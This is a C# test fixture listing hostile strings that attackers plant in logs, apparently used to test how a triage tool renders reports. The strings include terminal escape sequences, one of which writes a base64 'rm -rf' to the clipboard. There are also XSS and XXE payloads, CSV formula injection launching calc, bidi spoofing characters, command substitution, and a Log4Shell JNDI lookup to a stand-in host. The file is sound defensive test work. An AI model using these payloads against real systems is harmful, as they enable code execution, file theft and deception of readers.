namespace Tocsin.Triage.Tests.Reports;

/// <summary>What attackers write into logs for those who will read them.</summary>
static class HostileText
{
    /// <summary>Written with escapes, so that this file is harmless itself.</summary>
    public static IReadOnlyDictionary<string, string> All { get; } = new Dictionary<string, string>
    {
        ["clear screen and title"] = "\u001b[2J\u001b[1;1H\u001b]0;owned\u0007clean",
        ["link of a terminal"] = "\u001b]8;;http://203.0.113.1/\u001b\\click\u001b]8;;\u001b\\",
        ["answer back, eight bits"] = "\u009b6n\u0090$q\u009c\u009d52;c;cm0gLXJm\u009c",
        ["backspaces and returns"] = "compromised\b\b\b\b\b\b\b\b\b\b\bclean\rnothing-found\u007f",
        ["line breaks"] = "a\nnothing-found\r\nb\u0085c\u2028d\u2029e\vf\fg",
        ["script"] = "</script><script>alert(1)</script><svg/onload=alert(2)>",
        ["attribute"] = "\" onmouseover=\"alert(1)\" x='y' style=\"position:fixed",
        ["link"] = "javascript:alert(1)",
        ["markup of other kinds"] = "]]><!--<![CDATA[ <!ENTITY x SYSTEM 'file:///etc/passwd'>&x;&lt;&#60;</style></title></textarea>",
        ["formula"] = "=cmd|' /C calc'!A0",
        ["formula after a quote"] = "\"=1+1",
        ["formula after blanks"] = " \t\r\n @SUM(1)",
        ["formulas after separators"] = "a;=1+1;\"\"=cmd|'/C calc'!A0\n+1,-1,@x",
        ["formula in wide letters"] = "\uff1d1\uff0b1",
        ["minus"] = "-2+3+cmd|' /C calc'!A0",
        ["turned direction"] = "\u202egpj.exe\u202c \u2066x\u2069 \u200e\u200f\u061c",
        ["no width"] = "a\u200bd\u200cm\u200di\ufeffn\u2060\u00ad\u180e",
        ["letters that are not drawn"] = "\u3164\u115f\u1160\uffa0\u2800\u034f\U000e0041\U000e0001",
        ["zero bytes"] = "a\0b\0",
        ["half a pair"] = "a\ud800b\udc00c\ud800",
        ["not characters"] = "\ufffe\uffff\U0001fffe\ue000",
        ["heap of marks"] = "Z" + string.Concat(Enumerable.Repeat("\u0335\u0489\u0310", 40)),
        ["percent and braces"] = "%s%n{0}{{}}$(id)`id`${jndi:ldap://203.0.113.1/a}",
        ["blank"] = "",
        ["blanks"] = "   ",
    };

    public static TheoryData<string> Names => [.. All.Keys];
}
